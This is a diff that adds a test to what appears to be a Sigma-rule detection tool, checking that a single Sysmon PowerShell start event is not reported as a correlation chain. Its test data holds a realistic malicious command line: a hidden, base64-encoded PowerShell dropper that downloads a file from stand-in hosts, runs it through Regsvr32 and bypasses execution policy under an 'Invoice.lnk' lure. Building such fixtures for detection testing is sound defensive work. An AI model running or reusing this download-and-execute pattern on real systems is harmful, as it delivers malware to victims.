@@ -4,6 +4,7 @@
 
 usage: test_lineage.py BUILD_FOLDER
 """
+import base64
 import collections
 import json
 import os
@@ -273,6 +274,48 @@ def chains(x, case):
     x.t.check(hosts == set(CHAINS), f'correlations on {hosts}')
 
 
+def start(number, second, command):
+    """Sysmon's start of PowerShell from the desktop."""
+    shell = r'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe'
+    time = f'2024-01-01T10:00:{second:02d}.0000000Z'
+    return {'Event': {'System': {'Provider': {'Name': 'Microsoft-Windows-Sysmon'}, 'EventID': 1, 'Computer': 'h1',
+                                 'TimeCreated': {'SystemTime': time}, 'Channel': SYSMON, 'EventRecordID': number},
+                      'EventData': {'ProcessGuid': f'{{00000000-0000-0000-0000-{number:012d}}}', 'ProcessId': 100 + number,
+                                    'Image': shell, 'CommandLine': f'"{shell}" {command}', 'User': 'D\\u',
+                                    'ParentProcessGuid': '{00000000-0000-0000-0000-000000000099}', 'ParentProcessId': 50,
+                                    'ParentImage': r'C:\Windows\explorer.exe', 'ParentCommandLine': ''}}}
+
+
+def one_event_is_no_chain(x):
+    """One record that fits several steps, also through inner correlations, is one thing that happened."""
+    rules = [rule(1, 'one', 'category: process_creation', '{s: {CommandLine|contains: aaa}, condition: s}'),
+             rule(2, 'two', 'category: process_creation', '{s: {CommandLine|contains: bbb}, condition: s}')]
+    for n in (1, 2):
+        rules.append(correlation(n + 10, f'part {n}', f'{{type: event_count, rules: [r{n}], group-by: [Computer], '
+                                 'timespan: 1s, condition: {gte: 1}}').replace('level', f'name: p{n}\nlevel'))
+    outer = 'rules: [p1, p2], group-by: [Computer], timespan: 1h'
+    rules.append(correlation(21, 'ordered', f'{{type: temporal_ordered, {outer}}}'))
+    rules.append(correlation(22, 'counted', f'{{type: temporal, {outer}, condition: {{gte: 2}}}}'))
+    for commands, expected in ((['aaa bbb'], []), (['aaa', 'bbb'], ['counted', 'ordered']),
+                               (['aaa', 'aaa bbb'], ['counted', 'ordered']), (['aaa bbb', 'bbb'], ['counted', 'ordered']),
+                               (['bbb', 'aaa'], ['counted'])):
+        events = [start(i + 1, i, command) for i, command in enumerate(commands)]
+        found = [t for t in x.titles(rules, events) if t in ('counted', 'ordered')]
+        x.t.check(found == expected, f'{commands}: {found}')
+    script = ("$links=(\"http://u1.example.com/a/\",\"http://u2.example.com/wp-admin/b/\",\"http://u3.example.net/c/\");"
+              'foreach ($u in $links) {try {IWR $u -OutFile $env:TEMP/LqwxbPrZJz.LMo;'
+              'Regsvr32.exe $env:TEMP/LqwxbPrZJz.LMo;break} catch { }}')
+    hidden = base64.b64encode(script.encode()).decode()
+    command = ('-w hidden -command Out-String -InputObject "Invoice.lnk" | Out-Null; [System.Text.Encoding]::ASCII.GetString('
+               f"[System.Convert]::FromBase64String('{hidden}')) > \"$env:TEMP\\a.ps1\"; powershell -executionpolicy bypass "
+               '-file "$env:TEMP/a.ps1"')
+    code, out, err = x.run('scan', '-q', '--format', 'jsonl', x.log([start(1, 0, command)]))
+    found = [json.loads(line) for line in out.splitlines()]
+    x.t.check(code == 0 and len(found) >= 3, f'one start: {len(found)} findings, {err[:300]}')
+    told = [f['rule_title'] for f in found if f.get('correlation')]
+    x.t.check(not told, f'one start is {told}')
+
+
 def main():
     t = Test(sys.argv[1])
     with tempfile.TemporaryDirectory() as folder:
@@ -286,6 +329,7 @@ def main():
         correlations(x)
         not_compared(x)
         chains(x, case)
+        one_event_is_no_chain(x)
     return t.end()
 
 
